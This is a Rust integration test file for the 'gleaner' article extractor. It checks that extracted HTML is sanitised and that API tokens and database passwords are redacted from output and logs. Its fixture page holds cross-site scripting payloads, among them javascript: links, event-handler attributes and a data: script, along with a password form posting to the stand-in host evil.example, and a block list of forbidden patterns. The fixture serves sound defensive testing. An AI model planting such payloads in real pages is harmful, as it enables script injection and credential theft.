@@ -1,0 +1,172 @@
+//! Security properties that must hold whatever the input: the stored HTML is inert, and
+//! secrets never reach output or logs.
+
+mod common;
+
+use std::process::Command;
+
+use gleaner::extract::{Algorithm, extract_page};
+
+const HOSTILE: &str = r#"<!DOCTYPE html><html><head><title>Hostile page</title>
+<style>body { background: url(javascript:alert(1)) }</style>
+<script>document.cookie</script>
+<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
+</head><body onload="alert(1)">
+<nav><a href="/">Home</a> <a href="/news">News</a></nav>
+<article>
+<h1 onclick="alert(1)">Hostile page</h1>
+<p>The council met on Tuesday to discuss the budget for the coming year, and members spoke
+at length about roads, schools and the new library.<script>alert("inline")</script></p>
+<p>Residents asked questions <a href="javascript:alert(1)">about the plan</a> and
+<a href="JaVaScRiPt:alert(2)">its cost</a>, and <a href="data:text/html,&lt;script&gt;alert(3)&lt;/script&gt;">more</a>.</p>
+<p><img src="https://cdn.example/photo.jpg" onerror="alert(4)" alt="A photo" width="640" height="480">
+The mayor said the work would start in the spring and end before the winter.</p>
+<form action="https://evil.example/steal" method="post"><input name="password" type="password">
+<button formaction="javascript:alert(5)">Send</button></form>
+<iframe src="https://evil.example/frame"></iframe>
+<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
+<svg onload="alert(6)"><circle r="4"/></svg>
+<p style="position:fixed;top:0">A paragraph with inline style that must lose it, and more words
+about the budget so that it is clearly part of the article body.</p>
+<p>Final paragraph: the meeting closed at nine, with a vote planned for next month.</p>
+</article>
+<footer><a href="/privacy">Privacy</a></footer>
+</body></html>"#;
+
+const FORBIDDEN: &[&str] = &[
+    "<script",
+    "</script",
+    "onload",
+    "onerror",
+    "onclick",
+    "javascript:",
+    "data:text",
+    "<form",
+    "<input",
+    "<button",
+    "<iframe",
+    "<object",
+    "<embed",
+    "<style",
+    "style=",
+    "<svg",
+    "<meta",
+    "formaction",
+    "alert(",
+];
+
+#[test]
+fn stored_html_is_inert_whatever_the_algorithm() {
+    for algorithm in Algorithm::ALL {
+        let Ok(extraction) = extract_page(
+            HOSTILE.as_bytes(),
+            None,
+            None,
+            Some("Hostile page"),
+            algorithm,
+        ) else {
+            continue; // DANA finds nothing on an ASCII page
+        };
+        let html = extraction.html.to_ascii_lowercase();
+        for needle in FORBIDDEN {
+            assert!(
+                !html.contains(needle),
+                "{algorithm}: {needle:?} in stored HTML:\n{}",
+                extraction.html
+            );
+        }
+        for image in &extraction.images {
+            assert!(
+                image.url.starts_with("https://"),
+                "{algorithm}: image {}",
+                image.url
+            );
+        }
+    }
+    let auto = extract_page(
+        HOSTILE.as_bytes(),
+        None,
+        None,
+        Some("Hostile page"),
+        Algorithm::Auto,
+    )
+    .expect("the article is found");
+    assert!(
+        auto.text.contains("The council met on Tuesday"),
+        "{}",
+        auto.text
+    );
+    assert!(auto.html.contains("<p>"), "structure kept: {}", auto.html);
+}
+
+#[test]
+fn the_api_token_is_never_printed() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    std::fs::write(
+        dir.path().join("config.toml"),
+        "[api]\ntoken = \"tok-very-secret\"\n[[feeds]]\nurl = \"https://a.example/feed\"\n",
+    )
+    .expect("write");
+    for args in [
+        vec!["check-config"],
+        vec!["--log-level", "trace", "migrate"],
+        vec!["feeds", "--json"],
+    ] {
+        let output = Command::new(env!("CARGO_BIN_EXE_gleaner"))
+            .current_dir(dir.path())
+            .env_remove("GLEANER_DATABASE_URL")
+            .args(&args)
+            .output()
+            .expect("runs");
+        assert!(output.status.success(), "{args:?}");
+        let all = format!(
+            "{}{}",
+            String::from_utf8_lossy(&output.stdout),
+            String::from_utf8_lossy(&output.stderr)
+        );
+        assert!(
+            !all.contains("tok-very-secret"),
+            "{args:?} printed the token:\n{all}"
+        );
+    }
+}
+
+#[test]
+fn the_database_password_is_never_printed() {
+    let Some(url) = common::postgres_url() else {
+        common::skipped("the_database_password_is_never_printed");
+        return;
+    };
+    // Trust authentication accepts any password, so the URL still connects.
+    let mut with_password = url::Url::parse(&url).expect("test URL");
+    with_password
+        .set_password(Some("pw-very-secret"))
+        .expect("URL takes a password");
+    let dir = tempfile::tempdir().expect("tempdir");
+    std::fs::write(dir.path().join("config.toml"), "").expect("write");
+    for args in [
+        vec!["check-config"],
+        vec!["--log-level", "trace", "--log-format", "json", "migrate"],
+    ] {
+        let output = Command::new(env!("CARGO_BIN_EXE_gleaner"))
+            .current_dir(dir.path())
+            .env("GLEANER_DATABASE_URL", with_password.as_str())
+            .args(&args)
+            .output()
+            .expect("runs");
+        let all = format!(
+            "{}{}",
+            String::from_utf8_lossy(&output.stdout),
+            String::from_utf8_lossy(&output.stderr)
+        );
+        assert!(output.status.success(), "{args:?}: {all}");
+        assert!(
+            !all.contains("pw-very-secret"),
+            "{args:?} printed the password:\n{all}"
+        );
+        assert!(
+            all.contains("***"),
+            "{args:?} shows the URL redacted:\n{all}"
+        );
+    }
+}
